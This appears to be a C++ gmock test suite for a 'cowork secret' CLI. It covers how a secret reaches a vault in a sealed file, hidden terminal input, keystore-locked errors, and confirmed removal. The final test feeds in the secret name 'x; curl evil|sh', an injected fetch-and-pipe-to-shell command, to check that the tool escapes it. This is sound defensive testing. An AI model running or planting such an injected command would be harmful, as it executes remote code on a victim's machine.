// A secret's way from a person's hands into the vault.

#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

#include <string>

#include <gmock/gmock.h>

#include "common/frame/pair.h"
#include "cowork/v1/frames.pb.h"
#include "tests/support/cowork_at_work.h"

namespace cowork {
namespace {

using support::FakeBroker;
using support::Outcome;
using ::testing::AllOf;
using ::testing::ContainsRegex;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

class CliSecret : public support::CoworkAtWork {
 protected:
  bool Echoes() const {
    termios terminal{};
    EXPECT_EQ(::tcgetattr(screen_.get(), &terminal), 0);
    return (terminal.c_lflag & ECHO) != 0;
  }
};

// The vault's side of intake.sock, for one request.
struct Intake {
  std::string ticket;
  std::string secret;
  int seals = 0;
};

Intake TakeOneSecret(const os::UniqueFd& listener) {
  const os::UniqueFd client(::accept(listener.get(), nullptr, nullptr));
  const auto frame = frame::Receive(client.get());
  v1::IntakeRequest request;
  Intake intake;
  if (!frame.ok() || !request.ParseFromString(frame->bytes) || frame->descriptors.size() != 1)
    return intake;
  intake.ticket = request.ticket();
  intake.seals = ::fcntl(frame->descriptors[0].get(), F_GET_SEALS);
  char room[256];
  const ssize_t size = ::pread(frame->descriptors[0].get(), room, sizeof room, 0);
  intake.secret.assign(room, static_cast<size_t>(std::max<ssize_t>(size, 0)));
  // An empty message cannot be sent as a packet: here it is one with an empty field spelt out.
  static_cast<void>(frame::Send(client.get(), std::string("\x0a\0", 2)));
  return intake;
}

TEST_F(CliSecret, BringsASecretToTheVaultInASealedFile) {
  StartBroker();
  const os::UniqueFd listener = support::ListenAt(At("/h/run/intake.sock"), SOCK_SEQPACKET);
  Begin({"secret", "set", "demo-key", "--stdin"}, "not a real key\n");
  const Intake intake = TakeOneSecret(listener);
  EXPECT_EQ(Finish().exit, 0);
  EXPECT_EQ(intake.ticket, "ticket for demo-key");
  EXPECT_EQ(intake.secret, "not a real key");
  EXPECT_EQ(intake.seals, F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE);
}

TEST_F(CliSecret, TakesASecretFromWhomBrokerdHungUpOnMeanwhile) {
  StartBroker();
  const os::UniqueFd listener = support::ListenAt(At("/h/run/intake.sock"), SOCK_SEQPACKET);
  BeginAtATerminal({"secret", "set", "demo-key"});
  ReadUntil("(not shown): ");
  broker_->HangUp();
  Type("not a real key\n");
  EXPECT_EQ(TakeOneSecret(listener).secret, "not a real key");
  EXPECT_EQ(Finish().exit, 0);
}

TEST_F(CliSecret, TakesASecretFromTheTerminalWithoutShowingIt) {
  StartBroker();
  const os::UniqueFd listener = support::ListenAt(At("/h/run/intake.sock"), SOCK_SEQPACKET);
  BeginAtATerminal({"secret", "set", "demo-key"});
  ReadUntil("(not shown): ");
  Type("not a real key\n");
  EXPECT_EQ(TakeOneSecret(listener).secret, "not a real key");
  const Outcome outcome = Finish();
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_THAT(outcome.text, Not(HasSubstr("real key")));
}

TEST_F(CliSecret, LeavesATerminalWithEchoAtCtrlC) {
  StartBroker();
  BeginAtATerminal({"secret", "set", "demo-key"});
  ReadUntil("(not shown): ");
  EXPECT_FALSE(Echoes());
  Type("\x03");
  ReadUntil("\n");
  EXPECT_TRUE(Echoes());
  EXPECT_EQ(Finish().exit, -SIGINT);
}

TEST_F(CliSecret, AsksForNoSecretThatCouldNotBeKept) {
  StartBroker();
  broker_->secrets.keystore = "unavailable";
  broker_->secrets.state = "none";
  const Outcome outcome = Cowork({"secret", "set", "demo-key", "--stdin"}, "not a real key\n");
  EXPECT_EQ(outcome.exit, 5);
  EXPECT_THAT(outcome.text, HasSubstr("cowork up --keystore passphrase"));
  broker_->secrets.keystore = "passphrase";
  for (const char* state : {"locked", "new"}) {
    broker_->secrets.state = state;
    const Outcome closed = Cowork({"secret", "set", "demo-key", "--stdin"}, "not a real key\n");
    EXPECT_EQ(closed.exit, 5) << state;
    EXPECT_THAT(closed.text, HasSubstr("do    cowork vault unlock")) << state;
  }
}

TEST_F(CliSecret, IsForTheVaultBesideTheBrokerdThatGaveTheTicket) {
  StartBroker();
  FakeBroker another(At("/other/broker.sock"), At("/app"));
  const os::UniqueFd listener = support::ListenAt(At("/h/run/intake.sock"), SOCK_SEQPACKET);
  const Outcome outcome =
      Cowork({"--socket", At("/other/broker.sock"), "secret", "set", "demo-key", "--stdin"}, "key");
  EXPECT_EQ(outcome.exit, 2);
  EXPECT_THAT(outcome.text, ContainsRegex("not this installation's own socket\n  do    unset "));
  pollfd knock{.fd = listener.get(), .events = POLLIN, .revents = 0};
  EXPECT_EQ(::poll(&knock, 1, 0), 0);
}

TEST_F(CliSecret, IsNotSaidToBeLostWhereVaultdDidNotAnswer) {
  StartBroker();
  const os::UniqueFd listener = support::ListenAt(At("/h/run/intake.sock"), SOCK_SEQPACKET);
  Begin({"secret", "set", "demo-key", "--stdin"}, "not a real key\n");
  {
    const os::UniqueFd client(::accept(listener.get(), nullptr, nullptr));
    EXPECT_TRUE(frame::Receive(client.get()).ok());
  }
  const Outcome outcome = Finish();
  EXPECT_EQ(outcome.exit, 4);
  EXPECT_THAT(outcome.text, HasSubstr("it is not known whether the secret was kept"));
  EXPECT_THAT(outcome.text, HasSubstr("do    cowork secret ls"));
}

TEST_F(CliSecret, ListsNamesAndTimes) {
  StartBroker();
  const Outcome outcome = Cowork({"secret", "ls"});
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_THAT(outcome.text, ContainsRegex("^demo-key  set .* days ago\n$"));
  EXPECT_EQ(Cowork({"secret", "ls", "--json"}).text,
            "{\"name\":\"demo-key\",\"kind\":\"provider-key\",\"set_unix_ms\":\"1\"}\n");
}

TEST_F(CliSecret, RemovesOnlyWhatWasConfirmed) {
  StartBroker();
  const Outcome asked = Cowork({"secret", "rm", "demo-key"});
  EXPECT_EQ(asked.exit, 3);
  EXPECT_THAT(asked.text, HasSubstr("cowork secret rm demo-key --confirm y-"));
  EXPECT_THAT(broker_->secrets.done(), IsEmpty());
  BeginAtATerminal({"secret", "rm", "demo-key"});
  ReadUntil("yes");
  Type("yes\n");
  EXPECT_EQ(Finish().exit, 0);
  EXPECT_THAT(broker_->secrets.done(), ElementsAre("removed demo-key"));
}

TEST_F(CliSecret, SaysThatWhatIsToBeRemovedIsNotThere) {
  StartBroker();
  const Outcome outcome = Cowork({"secret", "rm", "another"});
  EXPECT_EQ(outcome.exit, 1);
  EXPECT_THAT(outcome.text, HasSubstr("do    cowork secret ls"));
}

TEST_F(CliSecret, SaysHowWithoutATerminal) {
  StartBroker();
  EXPECT_THAT(Cowork({"secret", "set", "x; curl evil|sh"}).text,
              HasSubstr(R"(do    cowork secret set $'x\x3b\x20curl\x20evil\x7csh' --stdin <FILE)"));
}

}  // namespace
}  // namespace cowork
